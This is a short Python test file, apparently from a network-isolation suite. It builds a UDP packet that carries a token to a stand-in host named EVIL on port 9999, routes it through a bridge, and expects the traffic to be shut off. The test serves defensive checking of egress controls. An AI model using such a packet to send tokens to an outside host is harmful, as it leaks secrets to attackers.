"""
how: a packet for the internet handed to the bridge
expect: shut
"""

from frames import by, ipv4, udp_part
from land import BRIDGE_MAC, EVIL


def attempt(token):
    return by(BRIDGE_MAC, ipv4(EVIL, 17, udp_part(EVIL, 9999, token)))
